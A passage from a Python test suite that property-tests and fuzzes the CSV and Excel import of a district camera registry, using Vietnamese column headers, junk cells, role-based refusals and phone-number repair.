    assert all(registry.verify_audit(DISTRICT) is None for registry in registry_pair)


CLEAN_ROW = {
    "lat": 10.7812, "lon": 106.72, "fov_deg": 60.0, "range_m": 30.0, "camera_type": "other",
    "status": "active",
}  # fmt: skip
"""A camera as :func:`geodata.layers.camerafields.clean_camera` gives it, to register."""
BULK_TEXT = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)))


@settings(
    deadline=None, max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(st.tuples(BULK_TEXT, BULK_TEXT | st.none()), min_size=1, max_size=12))
def test_any_text_comes_back_from_a_bulk_write_unchanged(registry, texts):
    rows = [
        {**CLEAN_ROW, "notes": notes[:2000], "owner_name": owner and owner[:200]}
        for notes, owner in texts
    ]
    ids = [record["id"] for record in registry.register_many(DISTRICT, rows)]
    with registry.engine.connect() as connection:
        query = select(Camera.notes, Camera.owner_name).where(Camera.id.in_(ids))
        stored = connection.execute(query.order_by(Camera.id)).all()
    assert [tuple(row) for row in stored] == [(row["notes"], row["owner_name"]) for row in rows]


# ----------------------------------------------------------------------------------- fuzzing

DEMO = build_demo()
WARD_BOX = DEMO.wards.to_crs("EPSG:4326").total_bounds
IN_WARDS = st.sampled_from(
    [(point.y, point.x) for point in DEMO.cameras.to_crs("EPSG:4326").geometry.iloc[:400]]
)
REQUIRED = ["Vĩ độ", "Kinh độ", "Góc nhìn", "Tầm xa (m)"]
OTHER_HEADERS = (
    "Hướng (độ)", "Chủ hộ", "Trạng thái", "Loại", "Mã camera", "SĐT", "Địa chỉ", "Số nhà",
    "Đường", "Ghi chú", "Ngày lắp", "Đồng ý chia sẻ", "retention_days", "Số điểm ảnh ngang",
    "STT", "",
)  # fmt: skip
SECOND_NAMES = ("vi_do", "lat", "Kinh do", "LON", "fov", "range", "owner", "code")
SAFE_TEXT = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=12)
ANY_TEXT = st.text(max_size=12)


def degrees(low, high):
    return st.floats(low, high, allow_nan=False)


def decimal_text(values):
    """Numbers as text, half of them with a decimal comma."""
    return st.tuples(values, st.booleans()).map(
        lambda pair: str(pair[0]).replace(".", ",") if pair[1] else str(pair[0])
    )


def junk(text):
    """Cells a careless list holds anywhere: empty, numbers of any size, words, unicode junk."""
    return st.one_of(
        st.just(""),
        decimal_text(st.floats(-1e4, 1e4, allow_nan=False)),
        st.integers(-1000, 1000).map(str),
        st.sampled_from(["nan", "inf", "-0", "1e400", "10,78,1", "hỏng", "có", "31/02/2025"]),
        text,
    )


POINTS = st.one_of(  # mostly where cameras are, sometimes anywhere around the district
    IN_WARDS,
    IN_WARDS,
    IN_WARDS,
    st.tuples(degrees(WARD_BOX[1], WARD_BOX[3]), degrees(WARD_BOX[0], WARD_BOX[2])),
)
LATITUDE_NAMES, LONGITUDE_NAMES = ("Vĩ độ", "vi_do", "lat"), ("Kinh độ", "Kinh do", "LON")
PLAUSIBLE = {  # header → what a ward writes there (coordinates: see camera_lists)
    "Hướng (độ)": st.integers(0, 360).map(str),
    **dict.fromkeys(["Góc nhìn", "fov"], st.sampled_from(["60", "90", "360", "100,5", "1"])),
    **dict.fromkeys(["Tầm xa (m)", "range"], st.sampled_from(["20", "30", "50,5", "500"])),
    **dict.fromkeys(
        ["Chủ hộ", "owner"], st.sampled_from(["Nguyễn Văn A", "nguyễn văn a", "Trần Thị B", ""])
    ),
    "Trạng thái": st.sampled_from(["hoạt động", "Hỏng", "active", "đã gỡ", ""]),
    "Loại": st.sampled_from(["bán cầu", "thân", "ptz", ""]),
    **dict.fromkeys(["Mã camera", "code"], st.sampled_from(["", "F-1", "f-1", "F-2"])),
    "Ngày lắp": st.sampled_from(["31/03/2025", "2024-12-01", ""]),
    "Đồng ý chia sẻ": st.sampled_from(["có", "không", "x", ""]),
    "retention_days": st.integers(0, 3650).map(str),
    "Số điểm ảnh ngang": st.sampled_from(["1920", "2560", "3840,0", "640", ""]),
    "SĐT": st.sampled_from(["0909 123 456", "+84 28 3824 1234", ""]),
}


@st.composite
def camera_lists(draw, *, text=ANY_TEXT, numbers=False):
    """A header (known names, junk, repeats) and rows of plausible and junk cells.

    Choices are made on a value other than 0, which hypothesis draws far more often.

    Each row's coordinates are one place (one in eight swapped), as text with a decimal point
    or comma, or (with ``numbers``) as a number, as Excel keeps it. One cell in six is junk.
    """
    other = st.sampled_from(OTHER_HEADERS)
    second = st.sampled_from(SECOND_NAMES)  # a second column for a field: refused
    header = draw(st.lists(st.one_of(*[other] * 12, second, SAFE_TEXT, SAFE_TEXT), max_size=5))
    if draw(st.integers(0, 3)) != 2:  # three files in four name coordinates and view
        header = REQUIRED + header[:4]
    if not header:
        header = draw(st.lists(SAFE_TEXT, min_size=1, max_size=3))
    bad = junk(text)
    if numbers:
        bad = st.one_of(bad, st.floats(-1e6, 1e6, allow_nan=False), st.booleans(), st.none())

    def row():
        lat, lon = draw(POINTS)
        if draw(st.integers(0, 7)) == 3:
            lat, lon = lon, lat
        coordinates = {
            **dict.fromkeys(LATITUDE_NAMES, round(lat, 6)),
            **dict.fromkeys(LONGITUDE_NAMES, round(lon, 6)),
        }
        cells = []
        for name in header:
            if draw(st.integers(0, 5)) == 4 or name not in PLAUSIBLE | coordinates:
                cells.append(draw(bad))
            elif name in coordinates:
                text = str(coordinates[name])
                forms = [text, text.replace(".", ","), *([coordinates[name]] if numbers else [])]
                cells.append(draw(st.sampled_from(forms)))
            else:
                cells.append(draw(PLAUSIBLE[name]))
        return cells

    n_rows = draw(st.integers(1, 6)) if draw(st.integers(0, 9)) != 5 else 0
    return header, [row() for _ in range(n_rows)]


@pytest.fixture(scope="module")
def fuzz_registry(tmp_path_factory):
    """One SQLite registry for every fuzzing example (fast; it fills up as they run)."""
    opened = Registry.open(f"sqlite:///{tmp_path_factory.mktemp('fuzz') / 'fuzz.sqlite3'}")
    opened.load_boundary_set(DISTRICT, build_demo().wards, name=DEMO_NAME)
    yield opened
    opened.engine.dispose()


@pytest.fixture(scope="module")
def fuzz_dir(tmp_path_factory):
    return tmp_path_factory.mktemp("fuzz-files")


def check_import_invariants(registry, actor, path, dry_run):
    before = registry.count()
    try:
        result = import_cameras(registry, actor, path, dry_run=dry_run)
    except (InputError, PermissionDenied) as error:
        event(f"refused: {type(error).__name__}")
        assert registry.count() == before
        return
    event(f"{'dry run' if dry_run else 'committed'}, {min(result.accepted, 2)}+ accepted")
    event(f"{min(result.rejected, 2)}+ rejected")
    for row in result.rows:
        if row.reason:
            event(f"reason: {str(row.reason).split(':')[0][:40]}")
    assert registry.count() == before + len(result.camera_ids)
    assert len(result.camera_ids) == (0 if dry_run else result.accepted)
    for row in result.rows:
        if row.accepted:
            assert row.reason is None and row.values
        else:
            assert row.reason and str(row.reason).strip() and not row.values
    assert len(result.rejected_frame("vi")) == result.rejected


ACTORS = st.sampled_from([DISTRICT, DISTRICT, DISTRICT, LAN, LAN, VIEWER])
FUZZ_SETTINGS = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@settings(FUZZ_SETTINGS, max_examples=800)
@given(data=camera_lists(), actor=ACTORS, dry_run=st.booleans(), separator=st.sampled_from(",;\t"))
def test_fuzzed_csv_lists_never_crash_or_half_commit(
    fuzz_registry, fuzz_dir, data, actor, dry_run, separator
):
    header, rows = data
    path = write_csv(fuzz_dir / "fuzz.csv", header, rows, separator=separator)
    check_import_invariants(fuzz_registry, actor, path, dry_run)


@settings(FUZZ_SETTINGS, max_examples=200)
@given(data=camera_lists(text=SAFE_TEXT, numbers=True), actor=ACTORS, dry_run=st.booleans())
def test_fuzzed_xlsx_lists_never_crash_or_half_commit(
    fuzz_registry, fuzz_dir, data, actor, dry_run
):
    header, rows = data
    path = write_xlsx(fuzz_dir / "fuzz.xlsx", header, rows)
    check_import_invariants(fuzz_registry, actor, path, dry_run)


def test_a_phone_kept_as_a_number_by_excel_gets_its_leading_zero_back(checking_registry, tmp_path):
    rows = [
        vi_row(1, **{"Số điện thoại": 912555666}),
        vi_row(2, **{"Số điện thoại": 2838123456}),
        vi_row(3, **{"Số điện thoại": "0909 123 456"}),
        vi_row(4, **{"Số điện thoại": 12345}),
    ]
    path = write_xlsx(tmp_path / "so_dien_thoai.xlsx", VI_HEADER, rows)
    result = import_cameras(checking_registry, DISTRICT, path, dry_run=True)
    phones = [row.values.get("owner_phone") for row in result.rows[:3]]
    assert phones == ["0912555666", "02838123456", "0909 123 456"]
    assert not result.rows[3].accepted
    assert re.search(
        r"Số điện thoại \(owner_phone\): cần số điện thoại ghi dạng chữ .*thấy con số 12345",
        result.rows[3].reason.render("vi"),
    )
